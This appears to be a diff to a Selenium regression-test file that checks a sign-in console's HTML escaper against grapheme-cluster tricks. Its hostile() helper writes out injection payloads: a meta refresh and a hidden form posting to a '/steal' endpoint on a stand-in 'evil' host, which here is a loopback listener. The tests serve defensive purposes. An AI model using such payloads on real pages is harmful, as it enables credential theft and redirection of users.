@@ -1,7 +1,8 @@
-"""Issue 14, item 1, in a real browser: the security review's attack on the console sign-in
-page. A crafted `next=` link hid `"` inside a grapheme cluster (`"` + U+0301), which the old
-escaper wrote raw: Chromium then saw a second form that posted the administrator's password to
-another host. Here that host is a listener on loopback that records what reaches it."""
+"""Issue 14, item 1, in a real browser: the security review's attacks. Text that hides `"`, `<`
+or `>` inside a grapheme cluster (`"` + U+0301, U+0600 + `<`, …) was written raw by the old
+escaper; Chromium then saw a second form posting the administrator's password to another host,
+or a meta refresh leaving the page. Here "another host" is a listener on loopback that records
+whatever reaches it."""
 import http.server
 import threading
 import urllib.parse
@@ -37,6 +38,52 @@ def catcher():
     threading.Thread(target=server.serve_forever, daemon=True).start()
     yield f"http://127.0.0.1:{server.server_address[1]}", hits
     server.shutdown()
+
+
+def hostile(evil, cluster):
+    return (f"x{cluster}><meta http-equiv=refresh content=\"0;url={evil}/refresh\">"
+            f"<form id=evil action={evil}/steal method=post><button id=evil-button>Go</button></form>{cluster}")
+
+
+def assert_inert(browser, evil, hits):
+    assert browser.current_url.split("?")[0].startswith("http://127.0.0.1"), browser.current_url
+    assert not browser.current_url.startswith(evil)
+    assert browser.find_elements(By.CSS_SELECTOR, "meta[http-equiv]") == []
+    assert browser.find_elements(By.ID, "evil") == []
+    assert hits == []
+
+
+@pytest.mark.parametrize("cluster", CLUSTERS)
+def test_a_reflected_error_description_stays_text(browser, usher, catcher, cluster):
+    evil, hits = catcher
+    payload = hostile(evil, cluster)
+    browser.get(f"{usher.base}/demo/callback?error=access_denied&error_description=" + urllib.parse.quote(payload, safe=""))
+    WebDriverWait(browser, 10).until(expected_conditions.presence_of_element_located((By.ID, "error-detail")))
+    assert_inert(browser, evil, hits)
+    # The text is shown as text, accent and all.
+    assert "<form id=evil" in browser.find_element(By.ID, "error-detail").text
+
+
+@pytest.mark.parametrize("cluster", CLUSTERS)
+def test_console_search_text_stays_text(signed_in_admin, usher, catcher, cluster):
+    browser = signed_in_admin
+    evil, hits = catcher
+    browser.get(f"{usher.base}/admin/accounts?q=" + urllib.parse.quote(hostile(evil, cluster), safe=""))
+    WebDriverWait(browser, 10).until(expected_conditions.presence_of_element_located((By.ID, "q")))
+    assert_inert(browser, evil, hits)
+    assert browser.find_element(By.ID, "q").get_attribute("value").startswith("x" + cluster + "><meta")
+
+
+@pytest.fixture(scope="module")
+def signed_in_admin(browser, usher):
+    browser.delete_all_cookies()
+    browser.get(f"{usher.base}/admin/signin")
+    browser.find_element(By.ID, "email").send_keys("admin@example.com")
+    browser.find_element(By.ID, "password").send_keys("admin-password-123")
+    old = browser.find_element(By.TAG_NAME, "html")
+    browser.find_element(By.ID, "sign-in").click()
+    WebDriverWait(browser, 30).until(expected_conditions.staleness_of(old))
+    return browser
 
 
 @pytest.mark.parametrize("cluster", CLUSTERS)
